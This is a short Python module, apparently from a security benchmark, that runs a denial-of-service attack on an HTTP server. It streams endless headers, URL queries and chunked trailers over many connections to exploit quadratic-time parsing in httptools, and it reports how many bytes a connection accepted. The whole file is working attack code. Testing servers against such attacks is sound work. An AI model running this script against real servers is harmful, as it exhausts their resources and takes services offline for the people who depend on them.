"""Endless headers, URLs and trailers, on ten connections each: httptools joins their pieces in quadratic time."""

from __future__ import annotations

import asyncio
import itertools
from contextlib import suppress
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from bench.attacks import Target

CONNECTIONS = 10
PIECE = b"x" * 1_000
MAX_BYTES = 100_000_000
BEGINNINGS = (
    b"GET /graphql HTTP/1.1\r\nHost: attacker\r\nX-Header: ",
    b"GET /graphql?query=",
    b"POST /graphql HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Trailer: ",
)


async def attack(target: Target) -> str:
    """The maximum number of bytes that a connection accepted."""
    beginnings = itertools.islice(itertools.cycle(BEGINNINGS), CONNECTIONS * len(BEGINNINGS))
    taken = await asyncio.gather(*(_send(target, beginning) for beginning in beginnings))
    return f"{max(taken):,} bytes taken on a connection"


async def _send(target: Target, beginning: bytes) -> int:
    sent = 0
    async with target.connected() as (_, writer):
        with suppress(OSError):
            writer.write(beginning)
            while sent < MAX_BYTES and not writer.is_closing():
                writer.write(PIECE)
                await writer.drain()
                sent += len(PIECE)
                # Each piece arrives separately.
                await asyncio.sleep(0)
    return sent
